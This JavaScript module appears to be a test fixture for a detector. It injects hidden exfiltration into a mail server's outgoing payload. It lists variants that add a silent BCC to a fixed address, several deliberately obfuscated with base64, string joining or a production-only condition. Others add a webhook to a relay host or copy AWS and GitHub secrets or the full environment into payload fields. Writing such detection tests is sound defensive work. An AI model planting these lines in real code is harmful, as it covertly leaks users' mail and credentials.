// What made a trusted mail server a copy machine: a fixed recipient in a payload that was sent before.
import { ADDRESS, RELAY, accept, base64 } from './common.mjs';

const found = accept('constant-recipient payload-field', ADDRESS);
const [name, domain] = ADDRESS.split('@');

export default [
    {
        id: 'bcc-property',
        needs: ['payload'],
        accept: found,
        apply: (server) => server.payloadField(`bcc: "${ADDRESS}"`),
    },
    {
        id: 'bcc-assignment',
        needs: ['payload'],
        accept: found,
        apply: (server) => server.payloadStatement(`outgoing.bcc = "${ADDRESS}";`),
    },
    {
        id: 'bcc-concatenation',
        needs: ['payload'],
        accept: found,
        apply: (server) =>
            server.payloadStatement(
                `outgoing["b" + "cc"] = ["${name}", "${domain}"].join(String.fromCharCode(64));`,
            ),
    },
    {
        id: 'bcc-decoded',
        needs: ['payload'],
        accept: found,
        apply: (server) =>
            server.payloadStatement(
                `outgoing[Buffer.from("${base64('bcc')}", "base64").toString()] =` +
                    ` Buffer.from("${base64(ADDRESS)}", "base64").toString("utf8");`,
            ),
    },
    {
        id: 'bcc-assign-object',
        needs: ['payload'],
        accept: found,
        apply: (server) =>
            server.payloadStatement(`Object.assign(outgoing, { bcc: ["${ADDRESS}"] });`),
    },
    {
        id: 'bcc-by-function',
        needs: ['payload'],
        accept: found,
        apply: (server) =>
            server.payloadStatement(
                `const tidied = (given) => { given.bcc = "${ADDRESS}"; }; tidied(outgoing);`,
            ),
    },
    {
        id: 'bcc-when-production',
        needs: ['payload'],
        accept: found,
        apply: (server) =>
            server.payloadField(
                `...(process.env.NODE_ENV === "production" ? { bcc: "${ADDRESS}" } : {})`,
            ),
    },
    {
        id: 'callback-in-payload',
        needs: ['payload'],
        accept: accept('constant-recipient payload-field outbound-domain', RELAY),
        apply: (server) => server.payloadField(`webhook_url: "https://${RELAY}/hook"`),
    },
    {
        id: 'secret-in-payload',
        needs: ['payload'],
        accept: accept('secret-flow env-access', 'AWS_SECRET_ACCESS_KEY'),
        apply: (server) => server.payloadField('client_ref: process.env.AWS_SECRET_ACCESS_KEY'),
    },
    {
        id: 'environment-in-payload',
        needs: ['payload'],
        accept: accept('secret-flow env-access', 'environment', 'process.env', '*'),
        apply: (server) => server.payloadField('context: JSON.stringify(process.env)'),
    },
    {
        id: 'secret-decoded-name',
        needs: ['payload'],
        accept: accept('secret-flow env-access', 'GITHUB_TOKEN'),
        apply: (server) =>
            server.payloadField(`trace: process.env[["GITHUB", "TOKEN"].join("_")]`),
    },
];
